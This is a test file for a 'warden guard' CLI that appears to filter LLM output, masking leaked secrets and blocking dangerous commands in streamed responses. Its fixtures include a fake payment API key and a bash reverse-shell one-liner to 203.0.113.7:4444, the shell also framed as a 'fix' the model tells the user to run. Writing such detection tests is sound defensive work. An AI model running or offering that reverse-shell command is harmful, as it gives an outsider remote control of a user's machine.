import { spawn, type ChildProcess } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import OpenAI from 'openai';
import { describe, expect, it } from 'vitest';
import { openAuditStore } from '../../apps/guard/audit/index.js';
import { useCliCapture } from '../../../test/cli.js';
import { startOpenAIUpstream } from '../../../test/upstreams/openai.js';
import { useTempDir } from '../../../test/helpers.js';

let dir: string;
useTempDir((path) => (dir = path), 'warden-guard-cli-');
const io = useCliCapture(['guard']);

const SECRET = 'sk_live_51HxQ2aLkR9mT4vW8zN3pB7cY';
const REVERSE_SHELL = 'run `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1` now';
const policyFile = (action: string) => `policies:\n  default:\n    rules:\n      - { detector: secrets, action: ${action} }\n`;

interface Served {
  child: ChildProcess;
  url: string;
  stdout: () => string;
  stderr: () => string;
  exit: Promise<number | null>;
}

/** Runs `warden guard serve ...` as a real process and waits for the line that names the URL. */
async function serve(...args: string[]): Promise<Served> {
  const child = spawn(process.execPath, ['--import', import.meta.resolve('tsx'), join(import.meta.dirname, '..', 'main.ts'), 'guard', 'serve', '--port', '0', ...args], { cwd: dir, stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  let err = '';
  child.stdout!.on('data', (c: Buffer) => (out += c.toString()));
  child.stderr!.on('data', (c: Buffer) => (err += c.toString()));
  const exit = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
  const url = await new Promise<string>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`no URL after 30 s; stdout: ${out}; stderr: ${err}`)), 30_000);
    const check = () => {
      const match = /(http:\/\/127\.0\.0\.1:\d+)/.exec(out);
      if (match) {
        clearTimeout(timer);
        resolve(match[1]!);
      }
    };
    child.stdout!.on('data', check);
    void exit.then(() => reject(new Error(`exited early; stdout: ${out}; stderr: ${err}`)));
  });
  return { child, url, stdout: () => out, stderr: () => err, exit };
}

const guard = async (url: string, body: object) => {
  const res = await fetch(`${url}/v1/guard`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  return (await res.json()) as { response: string; blocked: boolean; shadow?: boolean; would_block?: boolean };
};

describe('warden guard', () => {
  it('--help lists serve, check, test and audit; serve --help has examples', async () => {
    expect(await io.cli('--help')).toBe(0);
    for (const sub of ['serve', 'check', 'test', 'audit']) expect(io.out).toMatch(new RegExp(`\\b${sub}\\b`));
    io.out = '';
    expect(await io.cli('serve', '--help')).toBe(0);
    expect(io.out).toContain('Examples:');
    expect(io.out).toContain('$ warden guard serve --config guard.yaml');
    expect(io.out).toContain('--shadow');
  });

  it('serve: usage and config errors exit 2 before listening', async () => {
    expect(await io.cli('serve', '--port', '70000')).toBe(2);
    expect(io.err).toContain('--port must be 0-65535');
    const bad = join(dir, 'bad.yaml');
    await writeFile(bad, 'policies:\n  default:\n    rules:\n      - { detector: secrets, action: explode }\n');
    expect(await io.cli('serve', '--config', bad)).toBe(2);
    expect(io.err).toContain('W_POLICY_INVALID');
    expect(io.err).toContain('bad.yaml:4');
  });

  it('serve: prints the URL, guards, hot-reloads the policy file, stops on SIGTERM with the audit flushed', async () => {
    const config = join(dir, 'guard.yaml');
    await writeFile(config, policyFile('mask'));
    const db = join(dir, 'audit.db');
    const served = await serve('--config', config, '--db', `sqlite:${db}`);
    try {
      expect(served.stdout()).toMatch(/warden guard listening on http:\/\/127\.0\.0\.1:\d+ \(policies: default; default: default\)/);
      expect((await guard(served.url, { response: `key ${SECRET}` })).response).toBe(`key sk${'*'.repeat(SECRET.length - 4)}cY`);
      expect(await guard(served.url, { response: REVERSE_SHELL })).toMatchObject({ blocked: true });
      await writeFile(config, policyFile('redact'));
      let reloaded = '';
      for (let i = 0; i < 100 && reloaded !== 'key [REDACTED:payments]'; i++) {
        await new Promise((resolve) => setTimeout(resolve, 50));
        reloaded = (await guard(served.url, { response: `key ${SECRET}` })).response;
      }
      expect(reloaded).toBe('key [REDACTED:payments]');
    } finally {
      served.child.kill('SIGTERM');
    }
    expect(await served.exit).toBe(0);
    expect(served.stdout()).toContain('warden guard stopped (SIGTERM)');
    expect(served.stderr()).not.toContain(SECRET);
    const audit = await openAuditStore(`sqlite:${db}`);
    try {
      const entries = await audit.query({ limit: 1000 });
      expect(entries.length).toBeGreaterThanOrEqual(3);
      expect(entries.some((e) => e.action === 'block')).toBe(true);
    } finally {
      await audit.close();
    }
  });

  it('serve: the official OpenAI SDK streams through the proxy; a secret split across chunks arrives masked, a command blocks', async () => {
    const upstream = await startOpenAIUpstream();
    const config = join(dir, 'proxy.yaml');
    await writeFile(config, `upstreams:\n  openai: { base_url: "${upstream.baseURL}", pass_client_key: true }\n`);
    const served = await serve('--config', config, '--db', `sqlite:${join(dir, 'proxy.db')}`);
    try {
      const client = new OpenAI({ baseURL: `${served.url}/v1`, apiKey: 'sk-client-key', maxRetries: 0 });
      const read = async () => {
        const stream = await client.chat.completions.create({ model: 'gpt-test', messages: [{ role: 'user', content: 'hi' }], stream: true });
        let text = '';
        let finish: string | null = null;
        for await (const chunk of stream) {
          text += chunk.choices[0]?.delta?.content ?? '';
          finish = chunk.choices[0]?.finish_reason ?? finish;
        }
        return { text, finish };
      };
      upstream.use({ content: ['Your key is sk_live_51HxQ2a', 'LkR9mT4vW8zN3pB7cY', ' — keep it safe.'] });
      const masked = await read();
      expect(masked.text).toBe(`Your key is sk${'*'.repeat(SECRET.length - 4)}cY — keep it safe.`);
      expect(masked.finish).toBe('stop');
      upstream.use({ content: ['To fix it, run this now:\n\n```bash\nbash -i >& /dev/tcp/203.0.11', '3.7/4444 0>&1\n```\n'] });
      const blocked = await read();
      expect(blocked.text).toBe('This response was withheld by the security policy.');
      expect(blocked.finish).toBe('content_filter');
      expect(upstream.requests.at(-1)?.headers['authorization']).toBe('Bearer sk-client-key');
    } finally {
      served.child.kill('SIGTERM');
      await upstream.close();
    }
    expect(await served.exit).toBe(0);
  });

  it('serve --shadow --json: every policy passes through, decisions say what enforcement would do; SIGINT stops', async () => {
    const served = await serve('--shadow', '--json', '--db', `sqlite:${join(dir, 'shadow.db')}`);
    try {
      const first = JSON.parse(served.stdout().split('\n')[0]!);
      expect(first).toMatchObject({ url: served.url, shadow: true, default_policy: 'default' });
      expect(await guard(served.url, { response: REVERSE_SHELL })).toMatchObject({ response: REVERSE_SHELL, blocked: false, shadow: true, would_block: true });
    } finally {
      served.child.kill('SIGINT');
    }
    expect(await served.exit).toBe(0);
    expect(served.stdout()).toContain('"stopped":true');
  });
});
